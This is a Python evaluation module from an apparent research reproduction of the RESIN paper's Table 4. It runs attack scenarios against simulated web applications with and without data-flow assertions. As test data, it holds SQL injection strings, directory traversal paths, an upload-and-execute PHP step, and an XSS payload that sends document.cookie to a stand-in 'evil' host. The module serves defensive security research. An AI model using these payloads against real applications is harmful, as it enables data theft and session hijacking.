"""Experiment E3: the security evaluation of Table 4.

For every application/assertion row of Table 4 this module defines the
attack scenarios (previously-known and newly-discovered vulnerabilities) and
runs them twice — once against the unprotected application and once with the
RESIN assertion installed.  A row is reproduced when every attack succeeds
without the assertion and is prevented with it, while the application's
legitimate behaviour keeps working in both configurations.

The scenario functions are shared by the integration tests
(``tests/integration``) and the Table 4 benchmark
(``benchmarks/bench_table4_security.py``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Tuple

from ..core.exceptions import PolicyViolation
from ..environment import Environment
from ..security.assertions import mark_untrusted


@dataclass
class AttackResult:
    """Outcome of one attack attempt."""

    name: str
    succeeded: bool           # the attack achieved its goal (data leaked, …)
    blocked_by_policy: bool   # a PolicyViolation stopped it


@dataclass
class RowResult:
    """Outcome of one Table 4 row in one configuration."""

    application: str
    assertion: str
    assertion_loc: int
    known_vulnerabilities: int
    discovered_vulnerabilities: int
    attacks: List[AttackResult] = field(default_factory=list)
    legitimate_ok: bool = True

    @property
    def prevented(self) -> int:
        return sum(1 for a in self.attacks if not a.succeeded)

    @property
    def exploited(self) -> int:
        return sum(1 for a in self.attacks if a.succeeded)


#: What a scenario runner measures: its attacks and the legitimate-use check.
Measured = Tuple[List[AttackResult], bool]


@dataclass
class Scenario:
    """One row of Table 4."""

    application: str
    language: str
    app_loc: int              # size of the real application (from the paper)
    assertion: str
    assertion_loc: int        # assertion size reported by the paper
    known: int                # previously-known vulnerabilities
    discovered: int           # newly-discovered vulnerabilities
    vulnerability_type: str
    runner: Callable[[bool], Measured] = None


def _attack(name: str, goal: Callable[[], bool]) -> AttackResult:
    """Run one attack; ``goal`` returns True if the attack achieved its aim
    and raises PolicyViolation if a RESIN assertion stopped it."""
    try:
        return AttackResult(name, bool(goal()), False)
    except PolicyViolation:
        return AttackResult(name, False, True)


# --------------------------------------------------------------------------
# MIT EECS graduate admissions — SQL injection
# --------------------------------------------------------------------------

def run_admissions(use_resin: bool) -> Measured:
    from ..apps.admissions import AdmissionsSystem
    app = AdmissionsSystem(Environment(), use_resin=use_resin)
    app.add_applicant(1, "Alice", "systems", 780, notes="strong accept")
    app.add_applicant(2, "Bob", "theory", 650, notes="confidential: weak")

    attacks = [
        _attack("area filter injection",
                lambda: len(app.filter_by_area("x' OR '1'='1")) >= 2),
        _attack("id lookup injection",
                lambda: len(app.lookup_applicant("0 OR 1=1")) >= 2),
        _attack("decision update injection",
                lambda: _update_decision_attack(app)),
    ]
    legitimate = (len(app.search_by_name("Alice")) == 1
                  and len(app.filter_by_area("systems")) == 1)
    return attacks, legitimate


def _update_decision_attack(app) -> bool:
    app.update_decision(1, "admit' WHERE applicant_id = 2 --")
    return any(int(row["applicant_id"]) == 2 and str(row["decision"]) == "admit"
               for row in app.decisions())


# --------------------------------------------------------------------------
# MoinMoin — read and write access control
# --------------------------------------------------------------------------

def _moin_fixture(use_resin: bool, use_write: bool):
    from ..apps.moinmoin import MoinMoin
    wiki = MoinMoin(Environment(), use_resin=use_resin,
                    use_write_assertion=use_write)
    wiki.update_body("SecretPlans",
                     "#acl alice:read,write\nthe secret plans", "alice")
    wiki.update_body("PublicPage",
                     "#acl All:read Known:read,write\nwelcome", "alice")
    return wiki


def run_moinmoin_read(use_resin: bool) -> Measured:
    wiki = _moin_fixture(use_resin, use_write=False)
    wiki.update_body("MalloryPage", "{{include:SecretPlans}}", "mallory")

    def include_attack() -> bool:
        return "secret plans" in wiki.view_page("MalloryPage",
                                                "mallory").body()

    def raw_attack() -> bool:
        return "secret plans" in wiki.raw_action("SecretPlans",
                                                 "mallory").body()

    attacks = [
        _attack("rst include directive bypasses ACL (CVE-2008-6548)",
                include_attack),
        _attack("raw action misses ACL check", raw_attack),
    ]
    legitimate = ("secret plans" in wiki.view_page("SecretPlans",
                                                   "alice").body()
                  and "welcome" in wiki.view_page("PublicPage",
                                                  "mallory").body())
    return attacks, legitimate


def run_moinmoin_write(use_resin: bool) -> Measured:
    wiki = _moin_fixture(use_resin, use_write=use_resin)

    def deface_attack() -> bool:
        wiki.overwrite_revision("SecretPlans", 1, "defaced", "mallory")
        return "defaced" in str(
            wiki.env.fs.read_text("/wiki/pages/SecretPlans/00000001"))

    attacks = [_attack("direct revision overwrite bypasses write ACL",
                       deface_attack)]
    revision = wiki.update_body("SecretPlans",
                                "#acl alice:read,write\nupdated plans",
                                "alice")
    legitimate = revision == 2
    return attacks, legitimate


# --------------------------------------------------------------------------
# File Thingie / PHP Navigator — directory traversal
# --------------------------------------------------------------------------

def _run_filemanager(cls, payload: str, use_resin: bool) -> Measured:
    fm = cls(Environment(), use_resin=use_resin)
    fm.create_account("alice")
    fm.create_account("mallory")
    fm.save_file("alice", "notes.txt", "alice's notes")

    def traversal() -> bool:
        fm.save_file("mallory", payload, "owned by mallory")
        return "owned by mallory" in str(
            fm.env.fs.read_text(fm.home_dir("alice") + "/owned.txt"))

    attacks = [_attack("directory traversal on the write path", traversal)]
    legitimate = (fm.save_file("mallory", "mine.txt", "ok")
                  .endswith("/mallory/mine.txt")
                  and "alice's notes" in str(fm.read_file("alice",
                                                          "notes.txt")))
    return attacks, legitimate


def run_file_thingie(use_resin: bool) -> Measured:
    from ..apps.filemanager import FileThingie
    return _run_filemanager(FileThingie, "docs/../../alice/owned.txt",
                            use_resin)


def run_php_navigator(use_resin: bool) -> Measured:
    from ..apps.filemanager import PHPNavigator
    return _run_filemanager(PHPNavigator, "....//alice/owned.txt", use_resin)


# --------------------------------------------------------------------------
# HotCRP — password disclosure, paper access, author anonymity
# --------------------------------------------------------------------------

def _hotcrp_fixture(use_resin: bool):
    from ..apps.hotcrp import HotCRP
    site = HotCRP(Environment(), use_resin=use_resin)
    site.register_user("victim@example.org", "victim-password")
    site.register_user("adversary@example.org", "adversary-password")
    site.register_user("pc@example.org", "pc-password", is_pc=True)
    site.register_user("chair@example.org", "chair-password", is_pc=True,
                       priv_chair=True)
    site.submit_paper(1, "Data Flow Assertions", "We describe RESIN. " * 20,
                      ["alice@authors.org", "bob@authors.org"],
                      anonymous=True)
    site.add_review(1, "pc@example.org", "Strong accept; novel mechanism.",
                    released=False)
    return site


def run_hotcrp_password(use_resin: bool) -> Measured:
    site = _hotcrp_fixture(use_resin)
    site.email_preview_mode = True

    def preview_attack() -> bool:
        response = site.env.http_channel(user="adversary@example.org")
        site.send_password_reminder("victim@example.org", response)
        return "victim-password" in response.body()

    attacks = [_attack("password reminder + email preview discloses password",
                       preview_attack)]

    site.email_preview_mode = False
    response = site.env.http_channel(user="victim@example.org")
    site.send_password_reminder("victim@example.org", response)
    legitimate = any(m.to == "victim@example.org"
                     and "victim-password" in m.body
                     for m in site.env.mail.outbox)
    return attacks, legitimate


def run_hotcrp_paper_access(use_resin: bool) -> Measured:
    site = _hotcrp_fixture(use_resin)

    def outsider_reads_reviews() -> bool:
        response = site.review_page(1, "adversary@example.org")
        return "Strong accept" in response.body()

    attacks = [_attack("non-PC user reads unreleased reviews",
                       outsider_reads_reviews)]
    legitimate = "Strong accept" in site.review_page(
        1, "pc@example.org").body()
    return attacks, legitimate


def run_hotcrp_author_list(use_resin: bool) -> Measured:
    site = _hotcrp_fixture(use_resin)

    def pc_sees_anonymous_authors() -> bool:
        # The display path checks anonymity correctly; the *search export*
        # path (modelled by writing the raw author field) is where an
        # application without the assertion can slip.
        paper = site._paper(1)
        response = site._response_for("pc@example.org")
        response.write(paper["authors"])
        return "alice@authors.org" in response.body()

    attacks = [_attack("author list of anonymous paper reaches PC member",
                       pc_sees_anonymous_authors)]
    page = site.paper_page(1, "pc@example.org")
    legitimate = ("Data Flow Assertions" in page.body()
                  and "alice@authors.org" not in page.body())
    return attacks, legitimate


# --------------------------------------------------------------------------
# myPHPscripts login library — password disclosure
# --------------------------------------------------------------------------

def run_loginlib(use_resin: bool) -> Measured:
    from ..apps.loginlib import LoginLibrary
    lib = LoginLibrary(Environment(), use_resin=use_resin)
    lib.register("victim", "victim-secret")

    def fetch_password_file() -> bool:
        response = lib.http_get("/site/loginlib/users.txt")
        return "victim-secret" in response.body()

    attacks = [_attack("HTTP request for the plain-text password file "
                       "(CVE-2008-5855)", fetch_password_file)]
    legitimate = lib.authenticate("victim", "victim-secret")
    return attacks, legitimate


# --------------------------------------------------------------------------
# phpBB — read access control and cross-site scripting
# --------------------------------------------------------------------------

def _phpbb_fixture(use_read: bool, use_xss: bool):
    from ..apps.phpbb import PhpBB
    board = PhpBB(Environment(), use_read_assertion=use_read,
                  use_xss_assertion=use_xss)
    board.create_forum(1, "announcements")
    board.create_forum(2, "staff", allowed_users=["admin"])
    board.post_message(10, 2, "admin", "salaries",
                       "the staff salaries are secret")
    board.post_message(11, 1, "admin", "welcome", "hello world")
    return board


def run_phpbb_access(use_resin: bool) -> Measured:
    board = _phpbb_fixture(use_read=use_resin, use_xss=False)

    def printable() -> bool:
        return "secret" in board.printable_view(10, "mallory").body()

    def reply_quote() -> bool:
        return "secret" in board.reply_form(10, "mallory").body()

    def rss() -> bool:
        return "secret" in board.rss_feed("mallory").body()

    def search() -> bool:
        return "secret" in board.search_excerpts("salaries",
                                                 "mallory").body()

    attacks = [
        _attack("printable view misses permission check (known)", printable),
        _attack("reply quoting leaks unreadable message (plugin)",
                reply_quote),
        _attack("RSS plugin exports restricted messages (plugin)", rss),
        _attack("search plugin leaks excerpts (plugin)", search),
    ]
    legitimate = ("secret" in board.view_message(10, "admin").body()
                  and "hello world" in board.view_message(
                      11, "mallory").body())
    return attacks, legitimate


def run_phpbb_xss(use_resin: bool) -> Measured:
    from ..channels.socketchan import SocketChannel
    board = _phpbb_fixture(use_read=False, use_xss=use_resin)
    payload = "<script>document.location='http://evil/'+document.cookie</script>"

    def with_input(value):
        return mark_untrusted(value, "http-param") if use_resin else value

    def preview() -> bool:
        return payload in board.post_preview(with_input(payload), "body",
                                             "viewer").body()

    def search() -> bool:
        return payload in board.highlight_search(with_input(payload),
                                                 "viewer").body()

    def signature() -> bool:
        board.set_signature("eve", payload)
        return payload in board.profile_page("eve", "viewer").body()

    def whois() -> bool:
        server = SocketChannel("whois.example.net")
        server.feed(payload + "\nRegistrant: Example Corp")
        return payload in board.whois_page("example.com", server,
                                           "viewer").body()

    attacks = [
        _attack("post preview echoes subject unescaped (known)", preview),
        _attack("search header echoes term unescaped (known)", search),
        _attack("profile signature rendered unescaped (known)", signature),
        _attack("whois response rendered unescaped (known, unusual path)",
                whois),
    ]
    legitimate = "hello world" in board.view_message(11, "viewer").body()
    return attacks, legitimate


# --------------------------------------------------------------------------
# Server-side script injection (five applications, one assertion)
# --------------------------------------------------------------------------

def run_script_injection(use_resin: bool) -> Measured:
    # The script-injection assertion is installed on each application's own
    # environment registry, so no process-global setup/teardown is needed
    # (the pre-registry code had to reset_default_filters() around this).
    from ..apps.scriptapps import VULNERABLE_APPS, UploadApp
    attacks: List[AttackResult] = []
    for name, cve in VULNERABLE_APPS:
        app = UploadApp(name, Environment(), use_resin=use_resin, cve=cve)
        app.run_index()  # the legitimate use: raises if the assertion blocks it
        app.upload("mallory", "evil.php",
                   "globals_dict['pwned'] = True")

        def exploit(app=app) -> bool:
            app.http_get(f"/{app.name}/uploads/evil.php")
            return bool(app.env.interpreter.globals.get("pwned"))

        attacks.append(_attack(f"upload-and-execute in {name} ({cve})",
                               exploit))
    return attacks, True


# --------------------------------------------------------------------------
# The full table
# --------------------------------------------------------------------------

SCENARIOS: List[Scenario] = [
    Scenario("MIT EECS grad admissions", "Python", 18_500, "SQL injection",
             9, 0, 3, "SQL injection", run_admissions),
    Scenario("MoinMoin", "Python", 89_600, "Read ACL", 8, 2, 0,
             "Missing read access control checks", run_moinmoin_read),
    Scenario("MoinMoin", "Python", 89_600, "Write ACL", 15, 0, 0,
             "Missing write access control checks", run_moinmoin_write),
    Scenario("File Thingie file manager", "PHP", 3_200, "Write access", 19,
             0, 1, "Directory traversal, file access control",
             run_file_thingie),
    Scenario("HotCRP", "PHP", 29_000, "Password disclosure", 23, 1, 0,
             "Password disclosure", run_hotcrp_password),
    Scenario("HotCRP", "PHP", 29_000, "Paper access", 30, 0, 0,
             "Missing access checks for papers", run_hotcrp_paper_access),
    Scenario("HotCRP", "PHP", 29_000, "Author list", 32, 0, 0,
             "Missing access checks for author list", run_hotcrp_author_list),
    Scenario("myPHPscripts login library", "PHP", 425, "Password disclosure",
             6, 1, 0, "Password disclosure", run_loginlib),
    Scenario("PHP Navigator", "PHP", 4_100, "Write access", 17, 0, 1,
             "Directory traversal, file access control", run_php_navigator),
    Scenario("phpBB", "PHP", 172_000, "Read access", 23, 1, 3,
             "Missing access control checks", run_phpbb_access),
    Scenario("phpBB", "PHP", 172_000, "Cross-site scripting", 22, 4, 0,
             "Cross-site scripting", run_phpbb_xss),
    # The paper's row names the applications by citation: [3, 11, 16, 23, 36].
    Scenario("many (upload-enabled PHP apps)", "PHP", 0, "Script injection",
             12, 5, 0, "Server-side script injection", run_script_injection),
]


def run_scenario(scenario: Scenario, use_resin: bool) -> RowResult:
    # Every scenario builds its own Environment (and thus its own filter
    # registry), so scenarios are isolated without global teardown.
    attacks, legitimate = scenario.runner(use_resin)
    return RowResult(scenario.application, scenario.vulnerability_type,
                     scenario.assertion_loc, scenario.known,
                     scenario.discovered, attacks, legitimate)


def run_all(use_resin: bool) -> List[RowResult]:
    return [run_scenario(s, use_resin) for s in SCENARIOS]


def run_all_concurrent(use_resin: bool, workers: int = 16,
                       front_end: str = "threads") -> List[RowResult]:
    """Run every Table 4 scenario concurrently.

    Both front ends serve the suite through the same miniature evaluation
    service — a routed :class:`~repro.web.app.WebApplication` where
    ``POST /scenario/<int:index>`` runs row *index* of the table —
    dispatched either by the thread-pool
    :class:`~repro.server.dispatcher.Dispatcher` (``front_end="threads"``)
    or by the event-loop
    :class:`~repro.server.async_dispatcher.AsyncDispatcher`
    (``front_end="async"``; the scenario handler is synchronous, so the
    dispatcher routes it to its executor), or over real loopback sockets
    through the HTTP/1.1 front end (``front_end="socket"``: an
    :class:`~repro.server.http.HTTPServer` on a background thread, one
    ``http.client`` POST per scenario from ``workers`` concurrent client
    threads, the evaluator principal carried in an ``X-Resin-User``
    header).

    Each scenario owns its environment (and phpBB/MoinMoin/HotCRP publish
    their board / wiki / site as environment services, ``env.services``), so
    N simultaneous attack suites don't leak taint or policy state into each
    other, and the filesystem scenarios (MoinMoin write ACL, the file
    managers' traversal attacks) exercise ``ResinFS``'s per-subtree locks
    under real concurrency; results come back in ``SCENARIOS`` order and
    must match :func:`run_all` verdict-for-verdict under either front end.
    """
    if front_end not in ("threads", "async", "socket"):
        raise ValueError(f"unknown front_end {front_end!r}")
    from ..server.async_dispatcher import AsyncDispatcher
    from ..server.dispatcher import Dispatcher
    from ..web.request import Request

    app, results = _build_harness_app(use_resin)
    if front_end == "socket":
        _run_scenarios_over_socket(app, workers)
        return [results[index] for index in range(len(SCENARIOS))]
    requests = [Request(f"/scenario/{index}", method="POST",
                        user="evaluator")
                for index in range(len(SCENARIOS))]
    if front_end == "async":
        with AsyncDispatcher(app, workers=workers) as server:
            server.run(requests)
    else:
        with Dispatcher(app, workers=workers) as server:
            server.dispatch_all(requests)
    return [results[index] for index in range(len(SCENARIOS))]


def _run_scenarios_over_socket(app, workers: int) -> None:
    """POST every scenario to a live :class:`~repro.server.http.HTTPServer`.

    The server trusts the ``X-Resin-User`` header for the principal (the
    harness plays ``evaluator``, matching the in-process front ends), and
    the scenario requests are issued from ``workers`` concurrent client
    threads so the suite exercises real keep-alive connections under
    parallel load.  Any non-200 response fails the run loudly rather than
    silently dropping a row.
    """
    import http.client
    from concurrent.futures import ThreadPoolExecutor

    from ..server.http import HTTPServer, ServerHandle

    server = HTTPServer(app, workers=workers, user_header="x-resin-user",
                        read_timeout=60.0, write_timeout=60.0)

    def post_scenario(index: int) -> None:
        conn = http.client.HTTPConnection("127.0.0.1", handle.port,
                                          timeout=60)
        try:
            conn.request("POST", f"/scenario/{index}",
                         headers={"X-Resin-User": "evaluator"})
            reply = conn.getresponse()
            body = reply.read()
            if reply.status != 200:
                raise RuntimeError(
                    f"scenario {index} returned HTTP {reply.status}: "
                    f"{body[:200]!r}")
        finally:
            conn.close()

    with ServerHandle(server).start() as handle:
        with ThreadPoolExecutor(max_workers=workers) as pool:
            for outcome in pool.map(post_scenario, range(len(SCENARIOS))):
                pass  # re-raises the first client-side failure


def _build_harness_app(use_resin: bool):
    """The miniature evaluation service behind :func:`run_all_concurrent`.

    Every request is served inside its own
    :class:`~repro.core.request_context.RequestContext`; the scenarios build
    their own environments underneath, which is exactly the nesting a
    production deployment has (front-end request scope around application
    work).  The route is method-aware and parameterized: the row index is a
    typed ``<int:...>`` path segment, and only ``POST`` runs a scenario.
    """
    from ..web.app import WebApplication

    app = WebApplication(Environment(), "table4-harness")
    results: Dict[int, RowResult] = {}

    @app.route("/scenario/<int:index>", methods=["POST"])
    def scenario_route(request, response, index):
        results[index] = run_scenario(SCENARIOS[index], use_resin)
        response.write(f"row {index} done")

    return app, results


def verdicts(results: List[RowResult]) -> List[tuple]:
    """A comparable per-scenario summary: (application, per-attack
    (name, succeeded, blocked) tuples, legitimate_ok)."""
    return [(row.application,
             tuple((a.name, a.succeeded, a.blocked_by_policy)
                   for a in row.attacks),
             row.legitimate_ok)
            for row in results]


def format_table(protected: List[RowResult],
                 unprotected: List[RowResult]) -> str:
    """Render a Table 4-style report comparing the two configurations."""
    header = (f"{'Application':32} {'Assertion LOC':>13} {'Known':>6} "
              f"{'Discovered':>11} {'Exploitable (no RESIN)':>23} "
              f"{'Prevented (RESIN)':>18}")
    lines = [header, "-" * len(header)]
    for with_resin, without in zip(protected, unprotected):
        lines.append(
            f"{with_resin.application:32} {with_resin.assertion_loc:>13} "
            f"{with_resin.known_vulnerabilities:>6} "
            f"{with_resin.discovered_vulnerabilities:>11} "
            f"{without.exploited:>23} {with_resin.prevented:>18}")
    total_prevented = sum(r.prevented for r in protected)
    total_exploitable = sum(r.exploited for r in unprotected)
    lines.append("-" * len(header))
    lines.append(f"{'TOTAL':32} {'':>13} {'':>6} {'':>11} "
                 f"{total_exploitable:>23} {total_prevented:>18}")
    return "\n".join(lines)
